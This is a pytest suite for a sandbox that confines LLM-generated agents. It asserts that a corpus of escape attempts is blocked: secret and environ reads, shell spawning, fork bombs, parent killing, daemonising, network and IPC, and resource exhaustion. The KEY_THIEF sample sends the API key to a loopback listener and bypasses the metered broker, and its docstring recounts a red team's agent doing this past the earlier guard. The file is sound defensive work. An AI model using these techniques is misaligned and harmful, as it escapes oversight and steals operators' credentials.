"""The escape corpus of issue 6 end to end: through the executor, under the default SANDBOX=auto.

test_sandbox.py proves each layer on its own. Here every escape in tests/escapes.py is saved as a
raw agent (codeguard bypassed) and run by `executor.execute_agent`, exactly as the pipeline runs
agents, against the fake API. Each test asserts what the escape would have changed on the host, and
what the result says stopped it. Every escape runs twice: as this machine is configured, and with
bubblewrap hidden from PATH, as on a machine without it, where Landlock and seccomp must hold alone.
"""

from __future__ import annotations

import contextlib
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import escapes
import pytest
from agents import agent_source, write_agent, write_raw
from conftest import IMPORT_ROOT, TEST_KEY, OpenDoor
from fakeapi import FakeMessagesAPI, Reply

from agentgod import attachments, config, executor, generator, sandbox
from agentgod.broker import Channel

WITHOUT_BWRAP = "auto-without-bwrap"
AWAITING_CODE = "auto-started-before-its-code"
SECCOMP_REFUSED = "sandbox: refused by seccomp ("
LANDLOCK_REFUSED = "sandbox: refused by landlock ("
SHELL_NOT_STARTED = "status 32512"  # glibc's system() answers 127 << 8 when sh cannot be spawned


@pytest.fixture(params=["auto", WITHOUT_BWRAP, AWAITING_CODE])
def configuration(
    request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> Iterator[str]:
    """SANDBOX=auto as probed here; with bwrap out of reach (probe() caches per process); or
    with the agent's process started before its code was written, as the pipeline does."""
    caps = sandbox.probe()
    missing = [caps.why_not[layer] for layer in ("landlock", "seccomp") if layer in caps.why_not]
    if missing:
        pytest.skip("; ".join(missing))
    if request.param != WITHOUT_BWRAP:
        yield request.param
        return
    empty = tmp_path / "bin-without-bwrap"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))
    sandbox.probe.cache_clear()
    yield request.param
    sandbox.probe.cache_clear()  # the next test probes the real PATH again


@pytest.fixture(autouse=True)
def no_survivors(isolated_home: Path) -> Iterator[None]:
    """Whatever a test asserts, no process started from its agents outlives it.

    isolated_home first: the agents' folder, unique to the test, is the marker to look for.
    """
    marker = str(config.settings().agents_dir)
    yield
    deadline = time.monotonic() + 10
    while (survivors := agent_processes(marker)) and time.monotonic() < deadline:
        for pid in survivors:
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)
        time.sleep(0.02)


def run(
    write: Callable[[], Path],
    task: str,
    configuration: str,
    timeout: float = 30,
    door: Channel | None = None,
) -> executor.AgentResult:
    """Run an agent the way `configuration` says: started with its code, or before it exists."""
    if configuration != AWAITING_CODE:
        return executor.execute_agent(write(), task, {}, timeout=timeout, door=door)
    agent = executor.start_agent(
        None, timeout=timeout, door=door, preload=generator.RUNTIME_MODULES
    )
    assert isinstance(agent, executor.AgentProcess), agent
    return agent.run(task, {}, path=write())


def run_escape(
    name: str, configuration: str, task: dict[str, object] | None = None, timeout: float = 30
) -> executor.AgentResult:
    """Run one escape as a raw agent and check the layers that were up."""
    source = escapes.SOURCES[name]
    result = run(
        lambda: write_raw(source, name=name), json.dumps(task or {}), configuration, timeout
    )
    check_layers(result, configuration)
    assert "ESCAPED" not in result.output, result.output
    return result


def check_layers(result: executor.AgentResult, configuration: str) -> None:
    expected = {"rlimits", "landlock", "seccomp", "caps"}
    expected |= {"pids"} if "pids" not in sandbox.probe().why_not else set()
    assert expected <= set(result.layers), result.layers
    bwrap_expected = configuration != WITHOUT_BWRAP and sandbox.probe().bwrap is not None
    assert ("bwrap" in result.layers) == bwrap_expected, result.layers


def last_line(result: executor.AgentResult) -> str:
    return result.error.splitlines()[-1]


def stopped_by(result: executor.AgentResult, refusal: str) -> None:
    """The agent failed, and the bootstrap's last word names the layer that refused it."""
    assert not result.ok
    assert result.kind == "sandbox", (result.kind, result.error)
    assert last_line(result).startswith(refusal), result.error


def agent_processes(marker: str) -> list[int]:
    """Pids whose command line mentions `marker` (the agent's path: bwrap's and python's)."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                cmdline = (entry / "cmdline").read_bytes()
            except OSError:  # gone meanwhile
                continue
            if marker.encode() in cmdline:
                found.append(int(entry.name))
    return found


def wait_until_some_left(marker: str, seconds: float = 10) -> list[int]:
    deadline = time.monotonic() + seconds
    while not (found := agent_processes(marker)) and time.monotonic() < deadline:
        time.sleep(0.02)
    return found


def wait_until_none_left(marker: str, seconds: float = 10) -> list[int]:
    """A killed sandbox dies asynchronously (bwrap's pid namespace): wait, then report."""
    deadline = time.monotonic() + seconds
    while (left := agent_processes(marker)) and time.monotonic() < deadline:
        time.sleep(0.02)
    return left


# ---- the filesystem --------------------------------------------------------------------------


def test_write_outside_scratch(fake_api: FakeMessagesAPI, configuration: str) -> None:
    """The target is the agents' folder: overwriting saved agents would outlive the run."""
    outside = config.settings().agents_dir / "planted.py"
    result = run_escape("write_outside_scratch", configuration, {"outside": str(outside)})
    if configuration == AWAITING_CODE and "bwrap" in result.layers:
        # Started before its code, the agent may read the whole folder: bwrap mounts it
        # read-only, and that wall is met before Landlock's.
        stopped_by(result, "sandbox: refused by bwrap (read-only mount)")
        assert f"OSError: [Errno 30] Read-only file system: '{outside}'" in result.error
    else:
        stopped_by(result, LANDLOCK_REFUSED)
        assert f"PermissionError: [Errno 13] Permission denied: '{outside}'" in result.error
    assert not outside.exists()


def test_read_a_planted_secret(
    fake_api: FakeMessagesAPI, configuration: str, tmp_path: Path
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("planted-secret-7f3a", encoding="utf-8")
    secret.chmod(0o644)  # anyone may read it: only the sandbox stands in the way
    result = run_escape("read_planted_secret", configuration, {"secret": str(secret)})
    assert "planted-secret-7f3a" not in result.output + result.error
    if "bwrap" in result.layers:  # the path does not exist inside; the result cannot name bwrap
        assert result.kind == "crash"
        assert last_line(result) == (
            f"FileNotFoundError: [Errno 2] No such file or directory: '{secret}'"
        )
    else:
        stopped_by(result, LANDLOCK_REFUSED)
        assert f"PermissionError: [Errno 13] Permission denied: '{secret}'" in result.error


_DRIVER = """
import json, sys
sys.path.insert(0, sys.argv[1])
from pathlib import Path
from agentgod import executor
result = executor.execute_agent(Path(sys.argv[2]), "{}", {}, timeout=30)
print(json.dumps({"ok": result.ok, "kind": result.kind, "output": result.output,
                  "error": result.error, "layers": result.layers}))
"""


def run_as_child(path: Path) -> executor.AgentResult:
    """Run the agent from a fresh executor process, whose environment block holds the secret.

    /proc/<pid>/environ shows a process's environment as it started: a variable set in this
    process afterwards (monkeypatch.setenv) never appears there, so the parent must be a new one.
    """
    done = subprocess.run(
        [sys.executable, "-c", _DRIVER, str(IMPORT_ROOT), str(path)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    fields = json.loads(done.stdout)
    fields["layers"] = tuple(fields["layers"])
    return executor.AgentResult(path.stem, **fields)


def test_read_the_parents_environ(
    fake_api: FakeMessagesAPI, configuration: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PARENT_ONLY_SECRET", "environ-secret-51c9")
    path = write_raw(escapes.SOURCES["read_parent_environ"], name="read_parent_environ")
    monkeypatch.setenv("SANDBOX", "off")
    unconfined = run_as_child(path)
    assert "environ-secret-51c9" in unconfined.output, "the secret must be there to be stolen"
    monkeypatch.delenv("SANDBOX")  # back to the default, auto
    result = run_as_child(path)
    check_layers(result, configuration)
    assert "environ-secret-51c9" not in result.output + result.error
    if "bwrap" in result.layers:  # no /proc is mounted inside, and the parent there is pid 1
        assert result.kind == "crash"
        assert last_line(result) == (
            "FileNotFoundError: [Errno 2] No such file or directory: '/proc/1/environ'"
        )
    else:
        stopped_by(result, LANDLOCK_REFUSED)
        assert "PermissionError: [Errno 13] Permission denied: '/proc/" in result.error


# ---- programs and processes ------------------------------------------------------------------


@pytest.mark.parametrize("name", ["shell_by_os_system", "shell_by_ctypes_libc"])
def test_system_cannot_start_a_shell(
    fake_api: FakeMessagesAPI, configuration: str, name: str
) -> None:
    """system() swallows the errno, so the agent carries on: no layer can be named here."""
    result = run_escape(name, configuration)
    assert result.ok, result.error
    assert result.output == SHELL_NOT_STARTED  # and the shell's echo never reached stdout


@pytest.mark.parametrize("name", ["shell_by_subprocess", "shell_by_execv"])
def test_no_program_can_be_executed(
    fake_api: FakeMessagesAPI, configuration: str, name: str
) -> None:
    result = run_escape(name, configuration)
    stopped_by(result, SECCOMP_REFUSED)
    assert "PermissionError: [Errno 1] Operation not permitted" in result.error
    assert result.output == ""


def test_fork_a_thousand_times(fake_api: FakeMessagesAPI, configuration: str) -> None:
    result = run_escape("fork_a_thousand_times", configuration)
    stopped_by(result, SECCOMP_REFUSED)
    assert result.output == "forked 0\n"  # failed results keep stdout as printed
    assert wait_until_none_left(str(config.settings().agents_dir)) == []


def test_kill_the_parent(fake_api: FakeMessagesAPI, configuration: str) -> None:
    """The target is this test process: if the signal went through, nothing would be left."""
    result = run_escape("kill_the_parent", configuration, {"target": os.getpid()})
    stopped_by(result, SECCOMP_REFUSED)


def test_daemonise(fake_api: FakeMessagesAPI, configuration: str) -> None:
    result = run_escape("daemonise", configuration)
    stopped_by(result, SECCOMP_REFUSED)
    assert wait_until_none_left(str(config.settings().agents_dir)) == []


def test_without_the_sandbox_a_daemon_would_survive(
    fake_api: FakeMessagesAPI, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The control for the process scan: SANDBOX=off lets a setsid grandchild outlive the run
    (no_survivors kills it afterwards)."""
    monkeypatch.setenv("SANDBOX", "off")
    path = write_raw(escapes.SOURCES["daemonise"], name="daemonise")
    result = executor.execute_agent(path, "{}", {}, timeout=30)
    assert result.ok and result.output == "ESCAPED: a daemon outlives me"
    assert wait_until_some_left(str(path)), "the scan must see the daemon that escaped"


def test_linger_past_the_timeout(fake_api: FakeMessagesAPI, configuration: str) -> None:
    result = run_escape("linger_in_a_thread", configuration, timeout=2)
    assert result.kind == "timeout" and result.timed_out
    assert result.output == "answered, yet still here\n"
    assert wait_until_none_left(str(config.settings().agents_dir)) == []


# ---- the network -----------------------------------------------------------------------------


def test_connect_to_another_loopback_port(fake_api: FakeMessagesAPI, configuration: str) -> None:
    """Agents have no network at all now: the socket itself is refused, before any port rule."""
    with socket.create_server(("127.0.0.1", 0)) as other:
        port = other.getsockname()[1]
        result = run_escape("connect_to_another_port", configuration, {"other_port": port})
        stopped_by(result, SECCOMP_REFUSED)
        other.settimeout(1)  # a completed handshake would be queued by now, accepted or not
        with pytest.raises(TimeoutError):
            other.accept()


def test_fastopen_to_another_loopback_port(fake_api: FakeMessagesAPI, configuration: str) -> None:
    """TCP Fast Open connects inside sendto, where Landlock's port rule never looks."""
    with socket.create_server(("127.0.0.1", 0)) as other:
        port = other.getsockname()[1]
        result = run_escape("fastopen_to_another_port", configuration, {"other_port": port})
        stopped_by(result, SECCOMP_REFUSED)
        other.settimeout(1)  # a completed handshake would be queued by now, accepted or not
        with pytest.raises(TimeoutError):
            other.accept()


# ---- privileges and what outlives an agent -------------------------------------------------


def test_no_capability_is_left(
    fake_api: FakeMessagesAPI, configuration: str, tmp_path: Path
) -> None:
    """Even started by root, the agent holds no capability: another uid's 0600 file stays shut."""
    if os.geteuid() != 0:
        pytest.skip("only a root parent has capabilities to lose")
    foreign = tmp_path / "foreign.txt"
    foreign.write_text("foreign-secret-93d1", encoding="utf-8")
    foreign.chmod(0o600)
    os.chown(foreign, 12345, 12345)
    result = run_escape("use_capabilities", configuration, {"foreign": str(foreign)})
    assert not result.ok
    assert result.output == "capabilities 0x0\n"
    assert "foreign-secret-93d1" not in result.output + result.error


def test_no_ipc_object_can_be_made(fake_api: FakeMessagesAPI, configuration: str) -> None:
    """System V and POSIX IPC objects would outlive the agent, readable by whoever has the key."""
    with escapes.ipc_names() as names:
        result = run_escape("create_ipc_objects", configuration, names)
    stopped_by(result, SECCOMP_REFUSED)
    assert result.output == "refused shm EPERM msg EPERM sem EPERM mq EPERM\n"


# ---- resources -------------------------------------------------------------------------------


def holding(pids: list[int]) -> bool:
    """Whether one of these processes has made `holding` in its working directory (scratch)."""
    return any(os.path.exists(f"/proc/{pid}/cwd/holding") for pid in pids)


def test_a_thread_bomb_does_not_starve_its_sibling(
    fake_api: FakeMessagesAPI, door: OpenDoor, configuration: str
) -> None:
    """A bomb holds every thread it could get while a sibling starts threads of its own.

    The bomb's stdout reaches us only when it is over, so the file it makes once it holds all
    its threads is what says the sibling may start.
    """
    marker = str(config.settings().agents_dir)
    bombed: list[executor.AgentResult] = []

    def bomb() -> None:
        bombed.append(run(lambda: write_raw(escapes.THREAD_BOMB, name="bomb"), "{}", configuration))

    bomber = threading.Thread(target=bomb)
    bomber.start()
    try:
        deadline = time.monotonic() + 30
        while not holding(agent_processes(marker)) and bomber.is_alive():
            assert time.monotonic() < deadline, "the bomb never said it holds its threads"
            time.sleep(0.02)
        fake_api.queue(Reply("a sibling's answer"))
        source = """
            def run(task, previous_outputs):
                import threading
                done = []
                threads = [threading.Thread(target=done.append, args=(i,)) for i in range(8)]
                for thread in threads:
                    thread.start()
                for thread in threads:
                    thread.join()
                return call_llm(task) + f" after {len(done)} threads"
            """
        sibling = run(
            lambda: write_agent(source, name="sibling"), "the task", configuration, door=door()
        )
    finally:
        executor.stop_all()  # only the bomb is left
        bomber.join(30)
    assert sibling.ok, sibling.error
    assert sibling.output == "a sibling's answer after 8 threads"
    [result] = bombed
    check_layers(result, configuration)
    assert "ESCAPED" not in result.output
    started = int(result.output.split("threads ")[1].split()[0])
    assert 0 < started < sandbox.TASK_LIMIT, result.output


def test_allocate_4_gib(fake_api: FakeMessagesAPI, configuration: str) -> None:
    result = run_escape("allocate_4_gib", configuration)
    assert result.kind == "crash"
    assert last_line(result) == "MemoryError"


def test_lifting_the_limits_does_not_help(fake_api: FakeMessagesAPI, configuration: str) -> None:
    result = run_escape("lift_the_limits", configuration)
    assert result.kind == "crash"
    assert last_line(result) == "MemoryError"
    assert "ESCAPED" not in result.output


def test_fill_the_disk(fake_api: FakeMessagesAPI, configuration: str) -> None:
    result = run_escape("fill_the_disk", configuration)
    assert result.kind == "crash"
    assert last_line(result) == "OSError: [Errno 27] File too large"
    assert result.output == f"size {64 * 1024 * 1024}\n"  # not a byte past RLIMIT_FSIZE


# ---- and real work still gets done -----------------------------------------------------------


def test_a_legitimate_agent_reaches_the_api(
    fake_api: FakeMessagesAPI, door: OpenDoor, configuration: str
) -> None:
    fake_api.queue(Reply("a confined answer"))
    source = """
        def run(task, previous_outputs):
            return call_llm("Summarise: " + task)
        """
    result = run(lambda: write_agent(source), "the escape corpus", configuration, door=door())
    assert result.ok, result.error
    assert result.output == "a confined answer"
    check_layers(result, configuration)
    [request] = fake_api.messages()
    assert request.prompt == "Summarise: the escape corpus"
    assert request.api_key == TEST_KEY


# ---- the key, with no walls at all (issue 23) -------------------------------------------------

KEY_THIEF = """
import urllib.request

def run(task, previous_outputs):
    port = json.loads(task)["port"]
    found = []
    try:
        found.append(api_key())
    except Exception:
        pass
    try:
        found.append(_setting("ANTHROPIC_API_KEY"))
    except Exception:
        pass
    if found:
        urllib.request.urlopen(f"http://127.0.0.1:{port}/", data=" ".join(found).encode())
    try:
        body = {"max_tokens": 5, "messages": [{"role": "user", "content": "unmetered"}]}
        _post({"model": "claude-sonnet-5-5", **body})
        unmetered = "made"
    except Exception as error:
        unmetered = type(error).__name__
    return f"keys {len(found)}, unmetered call {unmetered}, " + call_llm("a metered call")
"""
"""What the red team's agent did under SANDBOX=off, in code the guard used to accept: call the
runtime's own key lookup, which found the home's .env up the tree from the agent's file, send the
key out, and call the model through the runtime's private request function, unmetered."""


def test_without_walls_an_agent_finds_no_key_and_no_road_around_the_broker(
    fake_api: FakeMessagesAPI,
    door: OpenDoor,
    isolated_home: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("SANDBOX", "off")
    (isolated_home / ".env").write_text(
        f"ANTHROPIC_API_KEY={TEST_KEY}\nANTHROPIC_BASE_URL={fake_api.base_url}\n"
    )
    fake_api.queue(Reply("the broker's answer"))
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        path = write_agent(KEY_THIEF, name="key_thief")  # run anyway, as if the guard had not
        result = executor.execute_agent(path, json.dumps({"port": port}), {}, door=door())
        listener.settimeout(1)  # a completed handshake would be queued by now, accepted or not
        with pytest.raises(TimeoutError):
            listener.accept()
    assert result.ok, result.error
    assert result.output == "keys 0, unmetered call NameError, the broker's answer"
    billed = door.ledger.totals().calls  # type: ignore[attr-defined]
    assert len(fake_api.messages()) == billed == 1, "every call the API saw was billed"
    assert TEST_KEY not in result.output + result.error
    complaints = generator.check_assembled(agent_source(KEY_THIEF, name="key_thief"))
    assert any("_setting is none of this code's own names" in c for c in complaints)
    assert any("_post is none of this code's own names" in c for c in complaints)


# ---- an attachment is the file that was vetted (issue 23) -------------------------------------


def test_an_attachment_swapped_for_a_link_reaches_neither_the_agent_nor_the_model(
    fake_api: FakeMessagesAPI, door: OpenDoor, configuration: str, tmp_path: Path
) -> None:
    """Checked by path once, then swapped for a link: the read-only mount and the broker's
    files= used to follow it to a file never vetted."""
    work = tmp_path / "work"
    work.mkdir()
    (work / "report.txt").write_text("the vetted report", encoding="utf-8")
    elsewhere = tmp_path / "elsewhere.txt"
    elsewhere.write_text("NEVER-VETTED-9e4b", encoding="utf-8")
    elsewhere.chmod(0o644)
    attached = attachments.gather(
        "summarise @report.txt", cwd=work, max_bytes=1 << 20, max_files=10
    )
    (work / "report.txt").unlink()
    (work / "report.txt").symlink_to(elsewhere)  # during the run, before this agent starts
    fake_api.queue(Reply("a summary"))
    body = """
        def run(task, previous_outputs):
            [(name, path)] = input_files().items()
            try:
                with open(path, encoding="utf-8") as handle:
                    seen = handle.read()
            except OSError as error:
                seen = f"unreadable ({type(error).__name__})"
            return seen + " | " + call_llm("summarise", files=[name])
        """
    given: dict[str, Any] = {
        "door": door(files=attached.inputs(), file_ids=attached.identities()),
        "inputs": attached.inputs(),
        "read_only": attached.mounts,
        "identities": attached.identities(),
    }
    if configuration == AWAITING_CODE:
        started = executor.start_agent(None, preload=generator.RUNTIME_MODULES, **given)
        if isinstance(started, executor.AgentProcess):
            started = started.run("t", {}, path=write_agent(body, name="reader"))
        result = started
    else:
        result = executor.execute_agent(write_agent(body, name="reader"), "t", {}, **given)
    assert "NEVER-VETTED" not in result.output + result.error
    assert all("NEVER-VETTED" not in json.dumps(request.body) for request in fake_api.messages())
    assert not result.ok
    assert "was replaced since it was attached" in result.error
